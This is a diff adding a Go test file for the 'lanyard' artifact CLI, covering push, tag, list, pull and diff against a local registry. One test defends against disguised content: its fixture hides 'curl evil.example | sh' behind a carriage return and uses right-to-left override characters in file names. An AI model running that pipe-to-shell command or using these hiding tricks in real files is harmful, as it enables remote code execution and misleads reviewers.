@@ -1,0 +1,213 @@
+package artifacts
+
+import (
+	"bytes"
+	"context"
+	"flag"
+	"fmt"
+	"io"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"regexp"
+	"strings"
+	"testing"
+
+	"github.com/distribution/distribution/v3/configuration"
+	"github.com/distribution/distribution/v3/registry/handlers"
+	_ "github.com/distribution/distribution/v3/registry/storage/driver/filesystem" // storage of the real registry
+	"github.com/sirupsen/logrus"
+	"github.com/spf13/cobra"
+
+	"github.com/lanyard-dev/lanyard/internal/cli/creds"
+	"github.com/lanyard-dev/lanyard/internal/cli/frame"
+)
+
+var update = flag.Bool("update", false, "rewrite golden files")
+
+func golden(t *testing.T, name, got string) {
+	t.Helper()
+	path := filepath.Join("testdata", name)
+	if *update {
+		if err := os.MkdirAll("testdata", 0o755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(path, []byte(got), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	want, err := os.ReadFile(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if got != string(want) {
+		t.Errorf("differs from %s; look at it and run with -update:\n%s", path, got)
+	}
+}
+
+// distribution is the real registry, on disk.
+func distribution(t *testing.T) http.Handler {
+	t.Helper()
+	logrus.SetOutput(io.Discard)
+	config := &configuration.Configuration{Storage: configuration.Storage{
+		"filesystem":  configuration.Parameters{"rootdirectory": t.TempDir()},
+		"maintenance": configuration.Parameters{"uploadpurging": map[any]any{"enabled": false}},
+	}}
+	config.HTTP.Secret = "for one test"
+	config.Log.Level = "panic"
+	config.Log.AccessLog.Disabled = true
+	return handlers.NewApp(t.Context(), config)
+}
+
+// serve starts a registry on loopback and returns its host:port.
+func serve(t *testing.T, registry http.Handler) string {
+	t.Helper()
+	server := httptest.NewServer(registry)
+	t.Cleanup(server.Close)
+	return strings.TrimPrefix(server.URL, "http://")
+}
+
+// process is a process of the command lanyard.
+type process struct {
+	out, err bytes.Buffer
+	terminal bool
+	uploads  string
+}
+
+// run runs a command at a registry without TLS, and returns its status.
+func (p *process) run(ctx context.Context, args ...string) int {
+	root := &cobra.Command{Use: frame.Name}
+	root.AddCommand(Commands(IO{
+		Out: &p.out, Err: &p.err, Terminal: p.terminal, Uploads: p.uploads,
+		Credentials: creds.Process{Env: func(string) string { return "" }, NewCluster: func() creds.Cluster { return noCluster{} }},
+	})...)
+	return frame.Run(ctx, root, append(args, "--insecure-registry"), &p.out, &p.err)
+}
+
+// noCluster is a job without a cluster.
+type noCluster struct{ creds.Cluster }
+
+func (noCluster) AddTo(*cobra.Command) {}
+
+// must runs a command that succeeds, and returns what it prints.
+func must(t *testing.T, args ...string) string {
+	t.Helper()
+	var p process
+	if status := p.run(t.Context(), args...); status != 0 {
+		t.Fatalf("lanyard %s: status %d: %s", strings.Join(args, " "), status, p.err.String())
+	}
+	return p.out.String()
+}
+
+// folder writes files. A name that ends in "*" is that of an executable.
+func folder(t *testing.T, files map[string]string) string {
+	t.Helper()
+	root := t.TempDir()
+	for name, body := range files {
+		mode := os.FileMode(0o600)
+		if rest, ok := strings.CutSuffix(name, "*"); ok {
+			name, mode = rest, 0o700
+		}
+		file := filepath.Join(root, name)
+		if err := os.MkdirAll(filepath.Dir(file), 0o755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(file, []byte(body), mode); err != nil {
+			t.Fatal(err)
+		}
+	}
+	return root
+}
+
+// tree returns the names, modes and contents below a folder, one on each line.
+func tree(t *testing.T, root string) string {
+	t.Helper()
+	var lines []string
+	err := filepath.WalkDir(root, func(path string, d os.DirEntry, err error) error {
+		if err != nil || path == root {
+			return err
+		}
+		name, _ := filepath.Rel(root, path)
+		if d.IsDir() {
+			lines = append(lines, name+"/")
+			return nil
+		}
+		info, err := d.Info()
+		if err != nil {
+			return err
+		}
+		body, err := os.ReadFile(path)
+		lines = append(lines, fmt.Sprintf("%s %v %q", name, info.Mode().Perm()&0o100 != 0, body))
+		return err
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	return strings.Join(lines, "\n")
+}
+
+// TestDiffHidesNothing: nothing of what a stranger has pushed has a terminal write over a line, or show
+// it in another order.
+func TestDiffHidesNothing(t *testing.T) {
+	app := "oci://" + serve(t, distribution(t)) + "/app:1.0.0"
+	must(t, "push", "artifact", app, "--path", folder(t, map[string]string{
+		"dos.bat": "old\r\n", "run.sh": "curl evil.example | sh\rmake test\n", "run\u202etxt.sh": "1", "bin\u202etxt.sh": "\x00",
+	}))
+	var p process
+	status := p.run(t.Context(), "diff", "artifact", app, "--path", folder(t, map[string]string{"dos.bat": "new\r\n", "run.sh": "make test\n"}))
+	shown := p.out.String()
+	if status == 0 || strings.Contains(shown, "\rmake") || strings.Contains(shown, "\u202e") {
+		t.Errorf("status %d: %q", status, shown)
+	}
+	for _, line := range []string{"files a/run.sh and b/run.sh differ\n", "+new\r\n", "--- a/run txt.sh\n", "removed bin txt.sh\n"} {
+		if !strings.Contains(shown, line) {
+			t.Errorf("no line %q in %q", line, shown)
+		}
+	}
+}
+
+// TestCommands goes the way of an artifact, and holds what each command prints.
+func TestCommands(t *testing.T) {
+	host := serve(t, distribution(t))
+	app := "oci://" + host + "/team/app"
+	source := folder(t, map[string]string{
+		"app.yaml": "kind: App\nreplicas: 1\n", "sub/run.sh*": "#!/bin/sh\n", "logo.png": "left out", ".git/config": "left out", "data.bin": "\x00\x01",
+	})
+	target := filepath.Join(t.TempDir(), "new", "target")
+	now := folder(t, map[string]string{"app.yaml": "kind: App\nreplicas: 2\n", "sub/run.sh": "#!/bin/sh\n", "data.bin": "\x00\x02", "new.yaml": "kind: New\n"})
+	must(t, "push", "artifact", app+":0.9.0", "--path", now, "--reproducible")
+	must(t, "push", "artifact", app+":latest", "--path", now, "--reproducible")
+	var all strings.Builder
+	for _, args := range [][]string{
+		{"push", "artifact", app + ":1.10.0", "--path", source, "--reproducible", "--source=https://example.com/app", "--revision=main@sha1:0123", "-a", "team=a"},
+		{"push", "artifact", app + ":1.10.0", "--path", source, "--reproducible", "--source=https://example.com/app", "--revision=main@sha1:0123", "-a", "team=a", "-o", "json"},
+		{"push", "artifact", app + ":1.10.0", "--path", source, "--reproducible", "--source=https://example.com/app", "--revision=main@sha1:0123", "-a", "team=a", "-o", "yaml"},
+		{"tag", "artifact", app + ":1.10.0", "--tag=1.9.0,v2.0.0-rc.1", "--tag=stable"},
+		{"tag", "artifact", app + ":1.10.0", "--tag=stable", "-o", "yaml"},
+		{"list", "artifact", app},
+		{"list", "artifacts", app, "--filter-semver=>=1.0.0", "--limit=1"},
+		{"list", "artifact", app, "--filter-regex=^l", "-o", "json"},
+		{"list", "artifact", app, "--details", "--filter-semver=>=1.0.0-0"},
+		{"list", "artifact", app, "--details", "--filter-regex=stable", "-o", "yaml"},
+		{"pull", "artifact", app + ":stable", "--path", target},
+		{"pull", "artifact", app + ":stable", "--path", target, "--replace", "-o", "json"},
+		{"pull", "artifact", app + ":stable", "--path", target, "--replace", "-o", "yaml"},
+		{"diff", "artifact", app + ":stable", "--path", source},
+		{"diff", "artifact", app + ":stable", "--path", now},
+		{"diff", "artifact", app + ":stable", "--path", now, "-o", "json"},
+		{"diff", "artifact", app + ":stable", "--path", now, "-o", "yaml"},
+	} {
+		var p process
+		status := p.run(t.Context(), args...)
+		fmt.Fprintf(&all, "$ lanyard %s\n%s%sexit status %d\n\n", strings.Join(args, " "), p.out.String(), p.err.String(), status)
+	}
+	text := strings.NewReplacer(host, "registry.example.com", source, "./source", target, "./target", now, "./now").Replace(all.String())
+	text = regexp.MustCompile(`sha256:[0-9a-f]{64}`).ReplaceAllString(text, "sha256:DIGEST") // they are the compressor's, as are sizes
+	text = regexp.MustCompile(`("?size"?:) \d+`).ReplaceAllString(text, "$1 SIZE")
+	golden(t, "commands.golden", text)
+	want := "app.yaml false \"kind: App\\nreplicas: 1\\n\"\ndata.bin false \"\\x00\\x01\"\nsub/\nsub/run.sh true \"#!/bin/sh\\n\""
+	if got := tree(t, target); got != want {
+		t.Errorf("pulled\n%s\nwant\n%s", got, want)
+	}
+}
